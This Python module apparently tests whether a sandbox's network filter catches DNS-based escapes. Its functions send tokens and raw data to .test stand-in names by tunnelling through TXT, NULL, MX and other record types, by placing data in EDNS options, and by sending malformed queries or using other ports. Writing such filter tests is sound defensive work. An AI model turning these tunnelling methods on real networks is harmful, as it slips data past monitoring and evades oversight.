"""DNS by every other means: another server, another record, another way to write a name, and data in the query."""

from __future__ import annotations

import socket
import struct
from collections.abc import Callable

from tests.escapes.frame import INSIDE, Ways, add, attack

NET = "network"
A, PTR, TXT, NULL, MX, ANY, AXFR, HTTPS = 1, 12, 16, 10, 15, 255, 252, 65
DENIED = r"block dns \S*{token}\.denied\.test"
SECONDS = 2.0


def encode(name: str) -> bytes:
    return b"".join(bytes([len(label)]) + label for label in name.encode().split(b".") if label) + b"\0"


def query(
    raw_name: bytes, kind: int = A, *, flags: int = 0x0100, klass: int = 1, count: int = 1, more: bytes = b""
) -> bytes:
    head = struct.pack("!6H", 0x1234, flags, count, 0, 0, 1 if more else 0)
    return head + (raw_name + struct.pack("!2H", kind, klass)) * count + more


def option(code: int, data: bytes) -> bytes:
    """An OPT record (RFC 6891) with one option."""
    content = struct.pack("!2H", code, len(data)) + data
    return b"\0" + struct.pack("!HHIH", 41, 1232, 0, len(content)) + content


def ask(server: str, message: bytes, port: int = 53, family: int = socket.AF_INET) -> bytes:
    with socket.socket(family, socket.SOCK_DGRAM) as sock:
        sock.settimeout(SECONDS)
        sock.connect((server, port))
        sock.send(message)
        return sock.recv(4096)


def ask_by_tcp(server: str, message: bytes, port: int = 53, family: int = socket.AF_INET) -> bytes:
    with socket.socket(family, socket.SOCK_STREAM) as sock:
        sock.settimeout(SECONDS)
        sock.connect((server, port))
        sock.sendall(struct.pack("!H", len(message)) + message)
        return sock.recv(4096)


def _denied(w: Ways) -> bytes:
    return encode(f"{w.token}.denied.test")


@attack(NET, receipt=DENIED)
def own_server(w: Ways) -> None:
    ask(w.v4, query(_denied(w)))


@attack(NET, receipt=DENIED)
def own_server_by_ipv6(w: Ways) -> None:
    ask(w.v6, query(_denied(w)), family=socket.AF_INET6)


@attack(NET, receipt=DENIED)
def own_server_by_tcp(w: Ways) -> None:
    ask_by_tcp(w.v4, query(_denied(w)))


@attack(NET, receipt=DENIED)
def own_server_by_tcp_and_ipv6(w: Ways) -> None:
    ask_by_tcp(w.v6, query(_denied(w)), family=socket.AF_INET6)


@attack(NET, receipt=DENIED)
def own_server_by_mapped_address(w: Ways) -> None:
    ask(f"::ffff:{w.v4}", query(_denied(w)), family=socket.AF_INET6)


@attack(NET, receipt=DENIED)
def denied_name_by_libc(w: Ways) -> None:
    socket.getaddrinfo(f"{w.token}.denied.test", 80)


@attack(NET, receipt=DENIED)
def denied_name_with_a_dot(w: Ways) -> None:
    socket.getaddrinfo(f"{w.token}.denied.test.", 80)


@attack(NET, receipt=DENIED)
def denied_name_in_capitals(w: Ways) -> None:
    ask(w.v4, query(encode(f"{w.token}.denied.test".upper())))


_RECORDS = {"txt": TXT, "null": NULL, "mx": MX, "any": ANY, "https": HTTPS}


def _of(kind: int) -> Callable[[Ways], None]:
    def tunnel(w: Ways) -> None:
        ask(w.v4, query(_denied(w), kind))

    return tunnel


for _name, _kind in _RECORDS.items():
    add(f"tunnel_by_{_name}", _of(_kind), NET, receipt=DENIED)


@attack(NET, receipt=DENIED)
def tunnel_in_many_labels(w: Ways) -> None:
    ask(w.v4, query(encode(".".join([w.token] * 10 + ["denied", "test"]))))


@attack(NET, receipt=r"allow dns \S*{token}\.wild\.test")
def tunnel_below_an_allowed_wildcard(w: Ways) -> None:
    """The name is allowed, so it is answered: with a made-up address, and nobody is asked."""
    ask(w.v4, query(encode(f"{w.token}.wild.test"), TXT))
    ask(w.v4, query(encode(f"{w.token}.wild.test")))


@attack(NET, receipt=r"block dns \S*in-addr\.arpa")
def reverse_name(w: Ways) -> None:
    reverse = ".".join(reversed(w.v4.split(".")))
    ask(w.v4, query(encode(f"{w.token}.{reverse}.in-addr.arpa"), PTR))


@attack(NET, receipt=r"allow dns \S*allowed\.test")
def data_in_an_option(w: Ways) -> None:
    """An allowed name, and the data in an EDNS option (here a local one; a cookie or padding would do)."""
    ask(w.v4, query(encode("allowed.test"), more=option(65001, w.raw)))


@attack(NET, receipt=r"allow dns \S*allowed\.test")
def data_in_the_client_subnet(w: Ways) -> None:
    ask(w.v4, query(encode("allowed.test"), more=option(8, b"\0\1\x20\0" + w.raw)))


MALFORMED = r"block dns \S*127\.0\.0\.1"


@attack(NET, receipt=MALFORMED)
def dot_within_a_label(w: Ways) -> None:
    """One label `TOKEN.wild.test`, which a careless program prints as an allowed name."""
    label = f"{w.token}.wild.test".encode()
    ask(w.v4, query(bytes([len(label)]) + label + b"\0"))


@attack(NET, receipt=MALFORMED)
def zero_within_a_label(w: Ways) -> None:
    label = w.raw + b"\0"
    ask(w.v4, query(bytes([len(label)]) + label + encode("allowed.test")))


@attack(NET, receipt=MALFORMED)
def two_questions(w: Ways) -> None:
    ask(w.v4, query(_denied(w), count=2))


@attack(NET, receipt=MALFORMED)
def another_class(w: Ways) -> None:
    ask(w.v4, query(_denied(w), TXT, klass=3))


@attack(NET, receipt=MALFORMED)
def dynamic_update(w: Ways) -> None:
    ask(w.v4, query(_denied(w), flags=0x2800))


@attack(NET, receipt=MALFORMED)
def answer_instead_of_a_question(w: Ways) -> None:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.sendto(query(_denied(w), flags=0x8180), (w.v4, 53))


@attack(NET, receipt=MALFORMED)
def no_dns_at_all_on_its_port(w: Ways) -> None:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.sendto(w.raw, (w.v4, 53))


@attack(NET, receipt=MALFORMED)
def no_dns_at_all_on_its_tcp_port(w: Ways) -> None:
    with socket.socket() as sock:
        sock.settimeout(SECONDS)
        sock.connect((w.v4, 53))
        sock.sendall(b"GET /" + w.raw + b" HTTP/1.0\r\n\r\n")


@attack(NET, receipt=r"block dns \S*denied\.test")
def zone_transfer(w: Ways) -> None:
    ask_by_tcp(w.v4, query(_denied(w), AXFR))


@attack(NET, receipt=r"block packet udp://{v4}:5355")
def llmnr_to_an_address(w: Ways) -> None:
    ask(w.v4, query(_denied(w)), 5355)


@attack(NET, receipt=r"block packet udp://{v4}:137")
def netbios_name(w: Ways) -> None:
    ask(w.v4, query(_denied(w)), 137)


@attack(NET, receipt=r"block transparent \S*{v4}:5300")
def dns_on_another_tcp_port(w: Ways) -> None:
    ask_by_tcp(w.v4, query(_denied(w)), 5300)


@attack(NET, silent=INSIDE)
def resolver_of_systemd(w: Ways) -> None:
    """127.0.0.53 is the sandbox's own, and port 53 there is the stub. Another port is nobody."""
    ask("127.0.0.53", query(_denied(w)), w.port)
